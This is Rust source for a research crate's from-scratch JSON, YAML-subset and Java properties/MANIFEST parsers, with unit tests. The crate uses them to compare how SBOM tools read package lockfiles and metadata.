        assert_eq!(get(&pairs, "artifactId"), Some("commons-lang3"));
        assert_eq!(get(&pairs, "version"), Some("3.12.0"));
    }

    #[test]
    fn colon_separator_and_escapes() {
        let pairs = parse_properties("key: va\\nlue\nuni=\\u0041");
        assert_eq!(get(&pairs, "key"), Some("va\nlue"));
        assert_eq!(get(&pairs, "uni"), Some("A"));
    }

    #[test]
    fn line_continuation() {
        let pairs = parse_properties("long=part1\\\npart2\\\npart3\nnext=x");
        assert_eq!(get(&pairs, "long"), Some("part1part2part3"));
        assert_eq!(get(&pairs, "next"), Some("x"));
    }

    #[test]
    fn escaped_backslash_is_not_continuation() {
        let pairs = parse_properties("p=a\\\\\nq=b");
        assert_eq!(get(&pairs, "p"), Some("a\\"));
        assert_eq!(get(&pairs, "q"), Some("b"));
    }

    #[test]
    fn manifest_basic() {
        let pairs = parse_manifest(
            "Manifest-Version: 1.0\nBundle-SymbolicName: org.example.bundle\nBundle-Version: 1.2.3\n",
        );
        assert_eq!(
            get(&pairs, "Bundle-SymbolicName"),
            Some("org.example.bundle")
        );
        assert_eq!(get(&pairs, "Bundle-Version"), Some("1.2.3"));
    }

    #[test]
    fn manifest_folded_lines() {
        let pairs = parse_manifest(
            "Import-Package: org.osgi.framework;version=\"[1.8\n ,2)\",org.slf4j\nMain-Class: com.example.App\n",
        );
        assert_eq!(
            get(&pairs, "Import-Package"),
            Some("org.osgi.framework;version=\"[1.8,2)\",org.slf4j")
        );
        assert_eq!(get(&pairs, "Main-Class"), Some("com.example.App"));
    }

    #[test]
    fn manifest_stops_at_blank_line() {
        let pairs = parse_manifest("A: 1\n\nName: entry\nB: 2\n");
        assert_eq!(pairs.len(), 1);
        assert_eq!(get(&pairs, "A"), Some("1"));
        assert_eq!(get(&pairs, "B"), None);
    }

    #[test]
    fn bare_key_without_value() {
        let pairs = parse_properties("standalone\nk=v");
        assert_eq!(get(&pairs, "standalone"), Some(""));
    }

    #[test]
    fn surrogate_pair_escapes_decode_to_astral_code_points() {
        // native2ascii spells 😀 (U+1F600) as a UTF-16 escape pair.
        let parsed = parse_properties_full("emoji=\\uD83D\\uDE00 ok");
        assert_eq!(get(&parsed.pairs, "emoji"), Some("\u{1F600} ok"));
        assert!(parsed.issues.is_empty(), "{:?}", parsed.issues);
        // A pair split across a line continuation still decodes.
        let folded = parse_properties_full("emoji=\\uD83D\\\n\\uDE00");
        assert_eq!(get(&folded.pairs, "emoji"), Some("\u{1F600}"));
        assert!(folded.issues.is_empty());
    }

    #[test]
    fn lone_surrogates_degrade_to_replacement_with_an_issue() {
        // High surrogate followed by a non-surrogate escape: U+FFFD, and
        // the following escape decodes on its own instead of vanishing.
        let parsed = parse_properties_full("k=\\uD83D\\u0041");
        assert_eq!(get(&parsed.pairs, "k"), Some("\u{FFFD}A"));
        assert_eq!(parsed.issues.len(), 1);
        assert!(parsed.issues[0].message.contains("lone high surrogate"));
        assert_eq!(parsed.issues[0].line, 1);
        // Unpaired low surrogate.
        let low = parse_properties_full("a=1\nk=x\\uDE00y");
        assert_eq!(get(&low.pairs, "k"), Some("x\u{FFFD}y"));
        assert_eq!(low.issues.len(), 1);
        assert!(low.issues[0].message.contains("unpaired low surrogate"));
        assert_eq!(low.issues[0].line, 2);
        // High surrogate at end of value.
        let tail = parse_properties_full("k=\\uD83D");
        assert_eq!(get(&tail.pairs, "k"), Some("\u{FFFD}"));
        assert_eq!(tail.issues.len(), 1);
    }

    #[test]
    fn two_high_surrogates_then_low_pair_from_the_second() {
        // The first high surrogate is lone; the second pairs with the low.
        let parsed = parse_properties_full("k=\\uD83D\\uD83D\\uDE00");
        assert_eq!(get(&parsed.pairs, "k"), Some("\u{FFFD}\u{1F600}"));
        assert_eq!(parsed.issues.len(), 1);
    }

    #[test]
    fn malformed_hex_escapes_are_replacement_not_dropped() {
        let parsed = parse_properties_full("k=a\\uZZ99b");
        // The four characters after \u are consumed like java.util.Properties.
        assert_eq!(get(&parsed.pairs, "k"), Some("a\u{FFFD}b"));
        assert_eq!(parsed.issues.len(), 1);
        assert!(parsed.issues[0].message.contains("4 hex digits"));
        // Truncated escape at end of input.
        let short = parse_properties_full("k=\\u12");
        assert_eq!(get(&short.pairs, "k"), Some("\u{FFFD}"));
        assert_eq!(short.issues.len(), 1);
        // The plain API still parses, silently.
        assert_eq!(get(&parse_properties("k=\\u12"), "k"), Some("\u{FFFD}"));
    }
}

//! JSON parsing and serialization (RFC 8259).
//!
//! Used for package-lock.json, composer.lock, Pipfile.lock, packages.lock.json
//! and for emitting CycloneDX / SPDX SBOM documents.

use crate::value::Value;
use crate::TextError;

/// Parses a JSON document.
///
/// # Errors
///
/// Returns a [`TextError`] with the line of the first syntax error.
pub fn parse(input: &str) -> Result<Value, TextError> {
    let mut p = Parser {
        bytes: input.as_bytes(),
        pos: 0,
        depth: 0,
    };
    p.skip_ws();
    let v = p.value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(p.err("trailing characters after document"));
    }
    Ok(v)
}

/// Parses a JSON document from raw bytes, rejecting invalid UTF-8 with a
/// positioned error instead of panicking or lossily replacing (RFC 8259
/// §8.1 requires UTF-8). Callers that read documents straight from disk
/// (OSV advisory files, corrupted uploads) use this to turn encoding
/// damage into a classified diagnostic.
///
/// # Errors
///
/// Returns a [`TextError`] naming the line of the first invalid byte or,
/// once decoded, the first syntax error.
pub fn parse_bytes(input: &[u8]) -> Result<Value, TextError> {
    match std::str::from_utf8(input) {
        Ok(text) => parse(text),
        Err(e) => {
            let line = 1 + input[..e.valid_up_to()]
                .iter()
                .filter(|&&b| b == b'\n')
                .count();
            Err(TextError::new(
                line,
                format!("invalid UTF-8 at byte {}", e.valid_up_to()),
            ))
        }
    }
}

/// Serializes a value as compact JSON.
pub fn to_string(v: &Value) -> String {
    let mut out = String::new();
    write_value(v, None, 0, &mut out);
    out
}

/// Serializes a value as pretty-printed JSON with two-space indentation.
pub fn to_string_pretty(v: &Value) -> String {
    let mut out = String::new();
    write_value(v, Some(2), 0, &mut out);
    out
}

fn write_value(v: &Value, indent: Option<usize>, level: usize, out: &mut String) {
    match v {
        Value::Null => out.push_str("null"),
        Value::Bool(true) => out.push_str("true"),
        Value::Bool(false) => out.push_str("false"),
        Value::Num(n) => {
            if n.fract() == 0.0 && n.is_finite() && n.abs() < 9e15 {
                out.push_str(&format!("{}", *n as i64));
            } else if n.is_finite() {
                out.push_str(&format!("{n}"));
            } else {
                out.push_str("null");
            }
        }
        Value::Str(s) => write_escaped(s, out),
        Value::Array(items) => {
            if items.is_empty() {
                out.push_str("[]");
                return;
            }
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                newline_indent(indent, level + 1, out);
                write_value(item, indent, level + 1, out);
            }
            newline_indent(indent, level, out);
            out.push(']');
        }
        Value::Object(entries) => {
            if entries.is_empty() {
                out.push_str("{}");
                return;
            }
            out.push('{');
            for (i, (k, item)) in entries.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                newline_indent(indent, level + 1, out);
                write_escaped(k, out);
                out.push(':');
                if indent.is_some() {
                    out.push(' ');
                }
                write_value(item, indent, level + 1, out);
            }
            newline_indent(indent, level, out);
            out.push('}');
        }
    }
}

fn newline_indent(indent: Option<usize>, level: usize, out: &mut String) {
    if let Some(width) = indent {
        out.push('\n');
        for _ in 0..level * width {
            out.push(' ');
        }
    }
}

fn write_escaped(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

const MAX_DEPTH: usize = 200;

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
    depth: usize,
}

impl<'a> Parser<'a> {
    fn err(&self, msg: &str) -> TextError {
        let line = self.bytes[..self.pos.min(self.bytes.len())]
            .iter()
            .filter(|&&b| b == b'\n')
            .count()
            + 1;
        TextError::new(line, msg)
    }

    fn skip_ws(&mut self) {
        while let Some(&b) = self.bytes.get(self.pos) {
            if matches!(b, b' ' | b'\t' | b'\n' | b'\r') {
                self.pos += 1;
            } else {
                break;
            }
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn value(&mut self) -> Result<Value, TextError> {
        if self.depth > MAX_DEPTH {
            return Err(self.err("maximum nesting depth exceeded"));
        }
        match self.peek() {
            Some(b'{') => self.object(),
            Some(b'[') => self.array(),
            Some(b'"') => Ok(Value::Str(self.string()?)),
            Some(b't') => self.literal("true", Value::Bool(true)),
            Some(b'f') => self.literal("false", Value::Bool(false)),
            Some(b'n') => self.literal("null", Value::Null),
            Some(b) if b == b'-' || b.is_ascii_digit() => self.number(),
            Some(_) => Err(self.err("unexpected character")),
            None => Err(self.err("unexpected end of input")),
        }
    }

    fn literal(&mut self, text: &str, v: Value) -> Result<Value, TextError> {
        if self.bytes[self.pos..].starts_with(text.as_bytes()) {
            self.pos += text.len();
            Ok(v)
        } else {
            Err(self.err("invalid literal"))
        }
    }

    fn number(&mut self) -> Result<Value, TextError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while self
            .peek()
            .map(|b| b.is_ascii_digit() || matches!(b, b'.' | b'e' | b'E' | b'+' | b'-'))
            .unwrap_or(false)
        {
            self.pos += 1;
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos])
            .map_err(|_| self.err("invalid utf-8 in number"))?;
        text.parse::<f64>()
            .map(Value::Num)
            .map_err(|_| self.err("invalid number"))
    }

    fn string(&mut self) -> Result<String, TextError> {
        debug_assert_eq!(self.peek(), Some(b'"'));
        self.pos += 1;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err(self.err("unterminated string")),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'u') => {
                            let cp = self.unicode_escape()?;
                            out.push(cp);
                            continue;
                        }
                        _ => return Err(self.err("invalid escape")),
                    }
                    self.pos += 1;
                }
                Some(b) if b < 0x20 => return Err(self.err("control character in string")),
                Some(_) => {
                    // Bulk-copy the run up to the next quote, escape or
                    // control byte, validating it as UTF-8 once (validating
                    // the whole remaining buffer per character would make
                    // string parsing quadratic).
                    let rest = &self.bytes[self.pos..];
                    let run = rest
                        .iter()
                        .position(|&b| b == b'"' || b == b'\\' || b < 0x20)
                        .unwrap_or(rest.len());
                    let s = std::str::from_utf8(&rest[..run])
                        .map_err(|_| self.err("invalid utf-8 in string"))?;
                    out.push_str(s);
                    self.pos += run;
                }
            }
        }
    }

    fn unicode_escape(&mut self) -> Result<char, TextError> {
        // self.pos is at 'u'
        self.pos += 1;
        let hex = self
            .bytes
            .get(self.pos..self.pos + 4)
            .ok_or_else(|| self.err("truncated \\u escape"))?;
        let hex = std::str::from_utf8(hex).map_err(|_| self.err("invalid \\u escape"))?;
        let n = u32::from_str_radix(hex, 16).map_err(|_| self.err("invalid \\u escape"))?;
        self.pos += 4;
        if (0xD800..0xDC00).contains(&n) {
            // High surrogate — pairs with an immediately following low
            // surrogate. Anything else (another high surrogate, a BMP
            // escape, a truncated escape) is left *unconsumed*: the lone
            // high surrogate degrades to U+FFFD and the following escape
            // decodes on its own instead of being swallowed.
            if self.bytes.get(self.pos) == Some(&b'\\')
                && self.bytes.get(self.pos + 1) == Some(&b'u')
            {
                let n2 = self
                    .bytes
                    .get(self.pos + 2..self.pos + 6)
                    .and_then(|hex2| std::str::from_utf8(hex2).ok())
                    .and_then(|hex2| u32::from_str_radix(hex2, 16).ok());
                if let Some(n2) = n2 {
                    if (0xDC00..0xE000).contains(&n2) {
                        self.pos += 6;
                        let cp = 0x10000 + ((n - 0xD800) << 10) + (n2 - 0xDC00);
                        return char::from_u32(cp).ok_or_else(|| self.err("invalid code point"));
                    }
                }
            }
            return Ok('\u{FFFD}');
        }
        // Unpaired low surrogates also degrade to U+FFFD.
        Ok(char::from_u32(n).unwrap_or('\u{FFFD}'))
    }

    fn object(&mut self) -> Result<Value, TextError> {
        self.pos += 1; // '{'
        self.depth += 1;
        let mut entries = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            self.depth -= 1;
            return Ok(Value::Object(entries));
        }
        loop {
            self.skip_ws();
            if self.peek() != Some(b'"') {
                return Err(self.err("expected string key"));
            }
            let key = self.string()?;
            self.skip_ws();
            if self.peek() != Some(b':') {
                return Err(self.err("expected ':'"));
            }
            self.pos += 1;
            self.skip_ws();
            let v = self.value()?;
            entries.push((key, v));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    self.depth -= 1;
                    return Ok(Value::Object(entries));
                }
                _ => return Err(self.err("expected ',' or '}'")),
            }
        }
    }

    fn array(&mut self) -> Result<Value, TextError> {
        self.pos += 1; // '['
        self.depth += 1;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            self.depth -= 1;
            return Ok(Value::Array(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    self.depth -= 1;
                    return Ok(Value::Array(items));
                }
                _ => return Err(self.err("expected ',' or ']'")),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_scalars() {
        assert_eq!(parse("null").unwrap(), Value::Null);
        assert_eq!(parse("true").unwrap(), Value::Bool(true));
        assert_eq!(parse("-1.5e2").unwrap(), Value::Num(-150.0));
        assert_eq!(parse(r#""hi""#).unwrap(), Value::Str("hi".into()));
    }

    #[test]
    fn parses_nested_document() {
        let v = parse(r#"{"a": [1, {"b": null}], "c": "x"}"#).unwrap();
        assert_eq!(v.pointer("a/1/b"), Some(&Value::Null));
        assert_eq!(v.get("c").and_then(Value::as_str), Some("x"));
    }

    #[test]
    fn escapes_roundtrip() {
        let v = parse(r#""line\nquote\" tab\t uA emoji😀""#).unwrap();
        assert_eq!(v.as_str(), Some("line\nquote\" tab\t uA emoji😀"));
    }

    #[test]
    fn rejects_malformed() {
        assert!(parse("{").is_err());
        assert!(parse("[1,]").is_err());
        assert!(parse(r#"{"a" 1}"#).is_err());
        assert!(parse("tru").is_err());
        assert!(parse("1 2").is_err());
        assert!(parse("").is_err());
    }

    #[test]
    fn error_reports_line() {
        let e = parse("{\n\"a\": \n@}").unwrap_err();
        assert_eq!(e.line(), 3);
    }

    #[test]
    fn emit_compact_and_pretty() {
        let v = parse(r#"{"a":[1,2],"b":{"c":true}}"#).unwrap();
        assert_eq!(to_string(&v), r#"{"a":[1,2],"b":{"c":true}}"#);
        let pretty = to_string_pretty(&v);
        assert!(pretty.contains("\n  \"a\": ["));
        assert_eq!(parse(&pretty).unwrap(), v);
    }

    #[test]
    fn roundtrip_preserves_key_order() {
        let v = parse(r#"{"z":1,"a":2}"#).unwrap();
        assert_eq!(to_string(&v), r#"{"z":1,"a":2}"#);
    }

    #[test]
    fn deep_nesting_is_bounded() {
        let mut s = String::new();
        for _ in 0..500 {
            s.push('[');
        }
        assert!(parse(&s).is_err());
    }

    #[test]
    fn special_floats_serialize_as_null() {
        assert_eq!(to_string(&Value::Num(f64::NAN)), "null");
        assert_eq!(to_string(&Value::Num(f64::INFINITY)), "null");
    }

    #[test]
    fn unicode_content_survives() {
        let v = parse("\"héllo wörld ✓\"").unwrap();
        assert_eq!(v.as_str(), Some("héllo wörld ✓"));
        assert_eq!(parse(&to_string(&v)).unwrap(), v);
    }

    #[test]
    fn lone_high_surrogate_becomes_replacement() {
        let v = parse(r#""\ud83d""#).unwrap();
        assert_eq!(v.as_str(), Some("\u{FFFD}"));
    }
}

//! From-scratch parsers and writers for the container formats that package
//! metadata is written in: JSON, a TOML subset, a YAML subset, an XML subset,
//! and Java-style properties / MANIFEST files.
//!
//! These are deliberately first-party (not `serde_json` et al.): the paper's
//! parser-confusion attack (§VI) exploits *differences between parsers*, so
//! the parsing layer is part of the system under study, and the tool
//! emulators need precise control over its behavior.
//!
//! All parsers are tolerant of malformed input in the sense that they return
//! errors and never panic — verified by fuzz-style property tests.
//!
//! # Examples
//!
//! ```
//! use sbomdiff_textformats::{json, Value};
//!
//! let v = json::parse(r#"{"name": "demo", "deps": ["a", "b"]}"#)?;
//! assert_eq!(v.get("name").and_then(Value::as_str), Some("demo"));
//! assert_eq!(v.get("deps").and_then(Value::as_array).map(|a| a.len()), Some(2));
//! # Ok::<(), sbomdiff_textformats::TextError>(())
//! ```

pub mod json;
pub mod properties;
pub mod stream;
pub mod toml;
pub mod value;
pub mod xml;
pub mod yaml;

pub use value::Value;
pub use xml::Element;

use std::fmt;

/// Error raised by the text-format parsers, with line information.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TextError {
    line: usize,
    message: String,
}

impl TextError {
    /// Creates an error at a 1-based line number (0 when unknown).
    pub fn new(line: usize, message: impl Into<String>) -> Self {
        TextError {
            line,
            message: message.into(),
        }
    }

    /// The 1-based line the error occurred on (0 when unknown).
    pub fn line(&self) -> usize {
        self.line
    }

    /// The error message.
    pub fn message(&self) -> &str {
        &self.message
    }
}

impl fmt::Display for TextError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.line > 0 {
            write!(f, "line {}: {}", self.line, self.message)
        } else {
            f.write_str(&self.message)
        }
    }
}

impl std::error::Error for TextError {}

//! A YAML subset parser sufficient for pnpm-lock.yaml and Podfile.lock:
//! block mappings and sequences by indentation, quoted and plain scalars,
//! inline `[]` / `{}` flow collections, comments and document markers.
//!
//! Not supported (not needed by any studied metadata format): anchors,
//! aliases, tags, multi-document streams, block scalars (`|`/`>`).

use crate::value::Value;
use crate::TextError;

/// Parses a YAML document into a [`Value`].
///
/// # Errors
///
/// Returns a [`TextError`] on structurally ambiguous input (e.g. mixing
/// sequence and mapping entries at one indentation level).
pub fn parse(input: &str) -> Result<Value, TextError> {
    let mut lines = Vec::new();
    for (i, raw) in input.lines().enumerate() {
        let no_comment = strip_comment(raw);
        let trimmed = no_comment.trim_end();
        if trimmed.trim().is_empty() {
            continue;
        }
        if trimmed.trim() == "---" || trimmed.trim() == "..." {
            continue;
        }
        let indent = trimmed.len() - trimmed.trim_start().len();
        lines.push(Line {
            number: i + 1,
            indent,
            text: trimmed.trim_start().to_string(),
        });
    }
    if lines.is_empty() {
        return Ok(Value::Null);
    }
    let mut pos = 0;
    let v = parse_block(&lines, &mut pos, lines[0].indent)?;
    if pos != lines.len() {
        return Err(TextError::new(
            lines[pos].number,
            "unexpected dedented content",
        ));
    }
    Ok(v)
}

struct Line {
    number: usize,
    indent: usize,
    text: String,
}

fn strip_comment(line: &str) -> &str {
    let mut in_single = false;
    let mut in_double = false;
    let bytes = line.as_bytes();
    for (i, &b) in bytes.iter().enumerate() {
        match b {
            b'\'' if !in_double => in_single = !in_single,
            b'"' if !in_single => in_double = !in_double,
            b'#' if !in_single && !in_double
                // '#' only starts a comment at line start or after whitespace
                && (i == 0 || bytes[i - 1] == b' ' || bytes[i - 1] == b'\t') =>
            {
                return &line[..i];
            }
            _ => {}
        }
    }
    line
}

fn parse_block(lines: &[Line], pos: &mut usize, indent: usize) -> Result<Value, TextError> {
    if *pos >= lines.len() {
        return Ok(Value::Null);
    }
    if lines[*pos].text.starts_with("- ") || lines[*pos].text == "-" {
        parse_sequence(lines, pos, indent)
    } else {
        parse_mapping(lines, pos, indent)
    }
}

fn parse_sequence(lines: &[Line], pos: &mut usize, indent: usize) -> Result<Value, TextError> {
    let mut items = Vec::new();
    while *pos < lines.len() {
        let line = &lines[*pos];
        if line.indent < indent {
            break;
        }
        if line.indent > indent {
            return Err(TextError::new(line.number, "unexpected indentation"));
        }
        if !(line.text.starts_with("- ") || line.text == "-") {
            break;
        }
        let rest = line.text.strip_prefix('-').unwrap_or("").trim_start();
        let number = line.number;
        *pos += 1;
        if rest.is_empty() {
            // Nested block under a bare dash.
            if *pos < lines.len() && lines[*pos].indent > indent {
                let child_indent = lines[*pos].indent;
                items.push(parse_block(lines, pos, child_indent)?);
            } else {
                items.push(Value::Null);
            }
        } else if let Some(key) = mapping_key(rest) {
            // `- key: value` or `- key:` — the item is a mapping; subsequent
            // deeper lines belong to it.
            let mut map = Value::object();
            let (k, v) = key;
            let first_val = if v.is_empty() {
                if *pos < lines.len() && lines[*pos].indent > indent {
                    let child_indent = lines[*pos].indent;
                    parse_block(lines, pos, child_indent)?
                } else {
                    Value::Null
                }
            } else {
                parse_scalar(&v, number)?
            };
            map.set(k, first_val);
            // Continuation keys aligned two past the dash.
            while *pos < lines.len()
                && lines[*pos].indent > indent
                && !lines[*pos].text.starts_with("- ")
            {
                let cont_indent = lines[*pos].indent;
                let nested = parse_mapping(lines, pos, cont_indent)?;
                if let Value::Object(entries) = nested {
                    for (k, v) in entries {
                        map.set(k, v);
                    }
                }
            }
            items.push(map);
        } else {
            items.push(parse_scalar(rest, number)?);
        }
    }
    Ok(Value::Array(items))
}

fn parse_mapping(lines: &[Line], pos: &mut usize, indent: usize) -> Result<Value, TextError> {
    let mut map = Value::object();
    while *pos < lines.len() {
        let line = &lines[*pos];
        if line.indent != indent {
            break;
        }
        if line.text.starts_with("- ") || line.text == "-" {
            break;
        }
        let (key, rest) = mapping_key(&line.text)
            .ok_or_else(|| TextError::new(line.number, "expected 'key: value'"))?;
        let number = line.number;
        *pos += 1;
        let value = if rest.is_empty() {
            if *pos < lines.len() && lines[*pos].indent > indent {
                let child_indent = lines[*pos].indent;
                parse_block(lines, pos, child_indent)?
            } else if *pos < lines.len()
                && lines[*pos].indent == indent
                && (lines[*pos].text.starts_with("- ") || lines[*pos].text == "-")
            {
                // Sequences are commonly written at the same indent as their key.
                parse_sequence(lines, pos, indent)?
            } else {
                Value::Null
            }
        } else {
            parse_scalar(&rest, number)?
        };
        map.set(key, value);
    }
    Ok(map)
}

/// Splits `key: value` / `key:`; returns `None` when the line has no
/// top-level `: ` separator and no trailing colon.
fn mapping_key(text: &str) -> Option<(String, String)> {
    // Quoted key
    if let Some(stripped) = text.strip_prefix('"') {
        let end = find_close(stripped, '"')?;
        let key = stripped[..end].to_string();
        let rest = stripped[end + 1..].trim_start();
        let rest = rest.strip_prefix(':')?;
        return Some((key, rest.trim().to_string()));
    }
    if let Some(stripped) = text.strip_prefix('\'') {
        let end = find_close(stripped, '\'')?;
        let key = stripped[..end].to_string();
        let rest = stripped[end + 1..].trim_start();
        let rest = rest.strip_prefix(':')?;
        return Some((key, rest.trim().to_string()));
    }
    // Plain key: separator is ": " or a trailing ":".
    if let Some(stripped) = text.strip_suffix(':') {
        if !stripped.contains(": ") {
            return Some((stripped.trim().to_string(), String::new()));
        }
    }
    let idx = text.find(": ")?;
    Some((
        text[..idx].trim().to_string(),
        text[idx + 2..].trim().to_string(),
    ))
}

fn find_close(s: &str, quote: char) -> Option<usize> {
    s.find(quote)
}

fn parse_scalar(s: &str, line: usize) -> Result<Value, TextError> {
    let s = s.trim();
    if s.starts_with('[') || s.starts_with('{') {
        return parse_flow(s, line);
    }
    if let Some(body) = s.strip_prefix('"').and_then(|r| r.strip_suffix('"')) {
        return Ok(Value::Str(body.replace("\\\"", "\"").replace("\\n", "\n")));
    }
    if let Some(body) = s.strip_prefix('\'').and_then(|r| r.strip_suffix('\'')) {
        return Ok(Value::Str(body.replace("''", "'")));
    }
    match s {
        "null" | "~" | "" => return Ok(Value::Null),
        "true" | "True" => return Ok(Value::Bool(true)),
        "false" | "False" => return Ok(Value::Bool(false)),
        _ => {}
    }
    if let Ok(n) = s.parse::<i64>() {
        return Ok(Value::Num(n as f64));
    }
    if let Ok(f) = s.parse::<f64>() {
        return Ok(Value::Num(f));
    }
    Ok(Value::Str(s.to_string()))
}

fn parse_flow(s: &str, line: usize) -> Result<Value, TextError> {
    if let Some(inner) = s.strip_prefix('[').and_then(|r| r.strip_suffix(']')) {
        let mut items = Vec::new();
        for part in split_flow(inner) {
            let part = part.trim();
            if part.is_empty() {
                continue;
            }
            items.push(parse_scalar(part, line)?);
        }
        return Ok(Value::Array(items));
    }
    if let Some(inner) = s.strip_prefix('{').and_then(|r| r.strip_suffix('}')) {
        let mut map = Value::object();
        for part in split_flow(inner) {
            let part = part.trim();
            if part.is_empty() {
                continue;
            }
            match part.split_once(':') {
                Some((k, v)) => {
                    let key = k.trim().trim_matches('"').trim_matches('\'').to_string();
                    map.set(key, parse_scalar(v.trim(), line)?);
                }
                None => return Err(TextError::new(line, "expected key: value in flow map")),
            }
        }
        return Ok(map);
    }
    Err(TextError::new(line, "unterminated flow collection"))
}

fn split_flow(s: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut depth = 0i64;
    let mut start = 0;
    let mut in_double = false;
    let mut in_single = false;
    for (i, c) in s.char_indices() {
        match c {
            '"' if !in_single => in_double = !in_double,
            '\'' if !in_double => in_single = !in_single,
            '[' | '{' if !in_double && !in_single => depth += 1,
            ']' | '}' if !in_double && !in_single => depth -= 1,
            ',' if depth == 0 && !in_double && !in_single => {
                parts.push(&s[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    parts.push(&s[start..]);
    parts
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn simple_mapping() {
        let v = parse("name: demo\nversion: 1.2.3\ncount: 4\nflag: true\n").unwrap();
        assert_eq!(v.get("name").and_then(Value::as_str), Some("demo"));
        assert_eq!(v.get("version").and_then(Value::as_str), Some("1.2.3"));
        assert_eq!(v.get("count").and_then(Value::as_i64), Some(4));
        assert_eq!(v.get("flag").and_then(Value::as_bool), Some(true));
    }

    #[test]
    fn nested_mapping() {
        let v = parse("outer:\n  inner:\n    key: value\n").unwrap();
        assert_eq!(
            v.pointer("outer/inner/key").and_then(Value::as_str),
            Some("value")
        );
    }

    #[test]
    fn pnpm_lock_shape() {
        let doc = parse(
            r#"
lockfileVersion: '6.0'

dependencies:
  lodash:
    specifier: ^4.17.21
    version: 4.17.21

packages:

  /lodash@4.17.21:
    resolution: {integrity: sha512-abc}
    dev: false

  /yargs@17.7.2:
    resolution: {integrity: sha512-def}
    dependencies:
      cliui: 8.0.1
    dev: false
"#,
        )
        .unwrap();
        assert_eq!(
            doc.pointer("dependencies/lodash/version")
                .and_then(Value::as_str),
            Some("4.17.21")
        );
        let pkgs = doc.get("packages").unwrap();
        assert!(pkgs.get("/lodash@4.17.21").is_some());
        assert_eq!(
            pkgs.get("/yargs@17.7.2")
                .and_then(|p| p.pointer("dependencies/cliui"))
                .and_then(Value::as_str),
            Some("8.0.1")
        );
        assert_eq!(
            pkgs.get("/lodash@4.17.21")
                .and_then(|p| p.get("dev"))
                .and_then(Value::as_bool),
            Some(false)
        );
    }

    #[test]
    fn podfile_lock_shape() {
        let doc = parse(
            r#"
PODS:
  - Firebase/Auth (10.12.0):
    - FirebaseAuth (~> 10.12.0)
  - FirebaseAuth (10.12.0)
  - GoogleUtilities (7.11.0)

DEPENDENCIES:
  - Firebase/Auth (~> 10.0)

COCOAPODS: 1.12.1
"#,
        )
        .unwrap();
        let pods = doc.get("PODS").and_then(Value::as_array).unwrap();
        assert_eq!(pods.len(), 3);
        // First pod is a mapping with a nested requirement list.
        let first = pods[0].as_object().unwrap();
        assert_eq!(first[0].0, "Firebase/Auth (10.12.0)");
        let reqs = first[0].1.as_array().unwrap();
        assert_eq!(reqs[0].as_str(), Some("FirebaseAuth (~> 10.12.0)"));
        // Later pods are plain scalars.
        assert_eq!(pods[1].as_str(), Some("FirebaseAuth (10.12.0)"));
        assert_eq!(doc.get("COCOAPODS").and_then(Value::as_str), Some("1.12.1"));
    }

    #[test]
    fn sequence_at_key_indent() {
        let v = parse("items:\n- a\n- b\n").unwrap();
        let arr = v.get("items").and_then(Value::as_array).unwrap();
        assert_eq!(arr.len(), 2);
    }

    #[test]
    fn flow_collections() {
        let v = parse("a: [1, 2, three]\nb: {x: 1, y: 'z'}\n").unwrap();
        assert_eq!(v.pointer("a/2").and_then(Value::as_str), Some("three"));
        assert_eq!(v.pointer("b/y").and_then(Value::as_str), Some("z"));
    }

    #[test]
    fn quoted_keys_and_values() {
        let v = parse("\"key: with colon\": 'va#lue'\n").unwrap();
        assert_eq!(
            v.get("key: with colon").and_then(Value::as_str),
            Some("va#lue")
        );
    }

    #[test]
    fn comments_stripped() {
        let v = parse("# full line\nkey: value # trailing\n").unwrap();
        assert_eq!(v.get("key").and_then(Value::as_str), Some("value"));
    }

    #[test]
    fn anchored_url_value_not_a_comment() {
        let v = parse("url: https://example.com/#fragment\n").unwrap();
        assert_eq!(
            v.get("url").and_then(Value::as_str),
            Some("https://example.com/#fragment")
        );
    }

    #[test]
    fn empty_document_is_null() {
        assert_eq!(parse("").unwrap(), Value::Null);
        assert_eq!(parse("# only comments\n---\n").unwrap(), Value::Null);
    }

    #[test]
    fn null_and_empty_values() {
        let v = parse("a: null\nb: ~\nc:\nd: after\n").unwrap();
        assert!(v.get("a").unwrap().is_null());
        assert!(v.get("b").unwrap().is_null());
        assert!(v.get("c").unwrap().is_null());
        assert_eq!(v.get("d").and_then(Value::as_str), Some("after"));
    }
}

